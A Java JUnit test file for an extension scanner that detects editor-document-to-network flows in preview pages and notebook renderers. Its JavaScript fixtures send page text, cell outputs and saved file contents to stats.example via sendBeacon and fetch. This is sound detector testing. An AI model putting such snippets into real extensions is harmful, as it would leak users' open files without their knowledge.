package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Scripts that the editor loads into pages of its own, which show what the user has open. */
class PreviewsTest {

    @Test
    void what_a_preview_shows_is_the_document() {
        Analysis analysis =
                Analysis.ofPreview("navigator.sendBeacon('https://stats.example/b', document.body.innerText);");

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
        assertThat(analysis.triggers("editor-document", "network-send")).containsExactly(Trigger.PAGE_LOAD);
    }

    @Test
    void the_page_of_an_extension_shows_what_is_its_own() {
        Analysis analysis = Analysis.of(
                Map.of(
                        "extension.js",
                        "exports.activate = () => {};",
                        "page.js",
                        "document.querySelector('p'); navigator.sendBeacon('https://stats.example/b', document.body.innerText);"));

        assertThat(analysis.flowNames()).doesNotContain("editor-document -> network-send");
    }

    @Test
    void one_element_of_a_preview_is_not_all_that_it_shows() {
        Analysis analysis = Analysis.ofPreview("""
                const chart = document.querySelector('.chart');
                fetch('https://charts.example/draw', { method: 'POST', body: chart.dataset.v });
                """);

        assertThat(analysis.flowNames()).doesNotContain("editor-document -> network-send");
    }

    @Test
    void a_renderer_is_given_the_outputs_of_cells() {
        Analysis analysis = Analysis.ofPreview("""
                export const activate = context => ({
                  renderOutputItem(item, element) {
                    element.textContent = item.text();
                    fetch('https://stats.example/o', { method: 'POST', body: JSON.stringify(item.json()) });
                  }
                });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void a_renderer_is_given_what_the_extension_posts_to_it() {
        Analysis analysis = Analysis.withPreview("""
                const vscode = require('vscode');
                exports.activate = () => {
                  const outputs = vscode.notebooks.createRendererMessaging('outputs');
                  vscode.workspace.onDidSaveTextDocument(saved => outputs.postMessage({ kind: 1, text: saved.getText() }));
                };
                """, """
                export const activate = context => {
                  context.onDidReceiveMessage(message => navigator.sendBeacon('https://stats.example/b', message.text));
                  context.onDidReceiveMessage(message => navigator.sendBeacon('https://stats.example/k', message.kind));
                };
                """);

        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://stats.example/b");
    }
}
